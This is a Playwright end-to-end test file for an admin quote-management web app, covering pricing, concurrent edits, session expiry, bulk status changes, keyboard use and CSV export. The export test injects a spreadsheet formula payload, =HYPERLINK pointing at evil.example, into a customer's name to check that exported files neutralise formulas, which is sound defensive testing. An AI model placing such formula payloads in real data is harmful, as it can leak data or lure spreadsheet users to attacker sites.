import { type Browser, expect, type Page, test } from "@playwright/test";
import {
  call,
  expectAccessible,
  fillSignInPage,
  newPerson,
  signInAt,
  tabTo,
  watchConsole,
  watchForText,
} from "./support";

const admin = "admin@example.com";
const toast = (page: Page, title: string) => expect(page.getByText(title, { exact: true })).toBeVisible();

/** Request a quote as a visitor. */
async function requestQuote(browser: Browser) {
  const visitor = await browser.newPage();
  await visitor.goto("/quote");
  const { name, email, phone } = newPerson();
  const { id } = await call<{ id: string }>(visitor, "POST", "/api/quotes", {
    fullName: name,
    email,
    phone,
    city: "Exeter",
    servicePackage: "premium",
    communicationPreference: "sms",
  });
  await visitor.close();
  return { id, name, list: `/admin?tab=quotes&q=${encodeURIComponent(name).replaceAll("%20", "+")}` };
}

test("a quote is priced from the queue", async ({ page, browser }) => {
  const console = watchConsole(page);
  const { id, name } = await requestQuote(browser);
  await signInAt(page, `/admin?tab=due&q=${encodeURIComponent(name)}`, admin);
  const line = page.getByRole("listitem").filter({ hasText: name });
  await expect(line).toContainText("Quote");
  const price = line.getByRole("textbox", { name: `Price for ${name}` });
  const enter = line.getByRole("button", { name: `Enter price for ${name}` });
  if (await enter.isVisible()) await enter.click();
  await price.fill("-5");
  await price.press("Enter");
  await expect(line.getByText("The amount can't be below 0")).toBeVisible();
  await price.fill("1,284.50");
  await price.press("Enter");
  await toast(page, "Quote Updated");
  await expect(line).toBeHidden();

  await page.goto(`/admin?tab=quotes&q=${id.slice(-8)}&open=${id}`);
  await expect(page.getByLabel(/^Status of quote/)).toHaveValue("reviewed");
  await expect(page.getByLabel(/^Amount of quote/)).toHaveValue("1,284.50");
  const panel = page.getByRole("region", { name: "Details" });
  await expect(panel.getByRole("list", { name: "History" })).toContainText("Quote amount: none → $1,284.50");
  await expect(panel.getByRole("list", { name: "History" })).toContainText("Ada");
  await expect(panel.getByText(/^Answered/)).toBeVisible();
  await panel.getByRole("button", { name: /^Comments/ }).click();
  await panel.getByLabel("Add a comment").fill("Is there an outlet by the porch?");
  await panel.getByRole("button", { name: "Send comment" }).click();
  await toast(page, "Comment Added");
  await expect(panel.getByRole("log")).toContainText("Is there an outlet by the porch?");
  await expectAccessible(page);
  console.expectNone();
});

test("two administrators edit one quote: nothing is overwritten unseen @desktop", async ({
  page,
  browser,
}) => {
  const console = watchConsole(page, [/409/]);
  const { name, list } = await requestQuote(browser);
  const second = await browser.newPage();
  await signInAt(page, list, admin);
  await signInAt(second, list, admin);
  await page.getByLabel(/^Amount of quote/).fill("900");

  await second.getByLabel(/^Status of quote/).selectOption("quoting");
  await second.getByLabel(/^Amount of quote/).fill("700");
  await second.getByRole("button", { name: /^Save quote/ }).click();
  await toast(second, "Quote Updated");

  await page.getByRole("button", { name: /^Save quote/ }).click();
  await toast(page, "Update Failed");
  const note = page.getByRole("alert").filter({ hasText: "changed this" });
  await expect(note).toContainText("Ada");
  await expect(note).toContainText("Status: Pending → Quoting");
  await expect(note).toContainText("Amount: none → $700.00");
  await expect(page.getByLabel(/^Amount of quote/)).toHaveValue("900");
  await expectAccessible(page);

  await page.getByRole("button", { name: /^Save quote/ }).click();
  await toast(page, "Quote Updated");
  await expect(note).toHaveCount(0);
  await second.reload();
  await expect(
    second
      .getByRole("row")
      .filter({ hasText: name })
      .getByLabel(/^Amount of quote/),
  ).toHaveValue("900.00");
  await second.close();
  console.expectNone();
});

test("unsaved changes in a row survive the end of the session @desktop", async ({
  page,
  context,
  browser,
}) => {
  const { list } = await requestQuote(browser);
  await signInAt(page, list, admin);
  const said = await watchForText(page, "You are logged out. Logging in again...");
  await page.reload();
  await page.getByLabel(/^Amount of quote/).fill("900");
  await context.clearCookies();
  await page.getByLabel(/^Amount of quote/).press("Enter");
  await said.shown;
  await page.waitForURL(/\/accounts\/login\//);
  await fillSignInPage(page, admin);
  await expect(page.getByLabel(/^Amount of quote/)).toHaveValue("900");
  await page.getByLabel(/^Amount of quote/).press("Enter");
  await toast(page, "Quote Updated");
});

test("several quotes get one status, except those that a customer has accepted @desktop", async ({
  page,
  browser,
}) => {
  const console = watchConsole(page);
  const one = await requestQuote(browser);
  const two = await requestQuote(browser);
  await signInAt(page, "/admin?tab=quotes", admin);
  await call(page, "PATCH", `/api/quotes/${two.id}`, { status: "approved", quoteAmount: 500 });
  await page.reload();
  for (const { name } of [one, two])
    await page.getByRole("row").filter({ hasText: name }).getByRole("checkbox").check();
  const bar = page.getByRole("region", { name: "Selected quotes" });
  await bar.getByLabel("Set status to").selectOption("rejected");
  await expectAccessible(page);
  await bar.getByRole("button", { name: "Change status" }).click();
  const outcome = page.getByRole("region", { name: "Result of the change" });
  await expect(outcome).toContainText("1 quote changed, 1 quote not changed.");
  await expect(outcome).toContainText(two.name);
  await expect(
    page
      .getByRole("row")
      .filter({ hasText: one.name })
      .getByLabel(/^Status/),
  ).toHaveValue("rejected");
  await expect(
    page
      .getByRole("row")
      .filter({ hasText: two.name })
      .getByLabel(/^Status/),
  ).toHaveValue("approved");
  console.expectNone();
});

test("the spreadsheet has the filtered quotes and no formulas @desktop", async ({ page }) => {
  await signInAt(page, "/admin", admin);
  const { name, email, phone } = newPerson();
  await call(page, "POST", "/api/quotes", {
    fullName: `=HYPERLINK("http://evil.example/${name}")`,
    email,
    phone,
    city: "Dover",
    servicePackage: "basic",
  });
  await page.goto(`/admin?tab=quotes&q=${email}`);
  await expect(page.getByText(`=HYPERLINK("http://evil.example/${name}")`)).toBeVisible();
  const download = page.waitForEvent("download");
  await page.getByRole("link", { name: "Export CSV" }).click();
  const file = await (await download).createReadStream();
  let text = "";
  for await (const part of file) text += part;
  expect(text.trim().split("\n")).toHaveLength(2);
  expect(text).toContain(email);
  expect(text).not.toMatch(/(^|,)"?=/m);
});

test("a quote is priced with the keyboard alone @desktop", async ({ page, browser }) => {
  const console = watchConsole(page);
  const { name, list } = await requestQuote(browser);
  await signInAt(page, list, admin);
  await expect(page.getByLabel(/^Status of quote/)).toBeVisible();
  await tabTo(page, /^\s*Status of quote/);
  await page.keyboard.press("ArrowDown");
  await page.keyboard.press("ArrowDown");
  await expect(page.getByLabel(/^Status of quote/)).toHaveValue("reviewed");
  await page.keyboard.press("Tab");
  await page.keyboard.type("12.345");
  await page.keyboard.press("Enter");
  await expect(page.getByText("Use at most two decimal places")).toBeVisible();
  await page.keyboard.press("ControlOrMeta+a");
  await page.keyboard.type("950");
  await page.keyboard.press("Enter");
  await toast(page, "Quote Updated");
  await tabTo(page, /Open quote/);
  await page.keyboard.press("Enter");
  const panel = page.getByRole("region", { name: "Details" });
  await expect(panel).toBeVisible();
  await tabTo(page, /\sSchedule visit$/);
  await page.keyboard.press("Enter");
  const dialog = page.getByRole("dialog", { name: "Schedule a visit" });
  await expect(dialog).toContainText(name);
  // The list handles keys once it has the focus.
  await expect.poll(() => dialog.evaluate((element) => element.contains(document.activeElement))).toBe(true);
  await page.keyboard.press("Escape");
  await expect(dialog).toHaveCount(0);
  await expect(panel.getByRole("button", { name: /Schedule visit/ })).toBeFocused();
  await page.keyboard.press("Escape");
  await expect(panel).toHaveCount(0);
  console.expectNone();
});
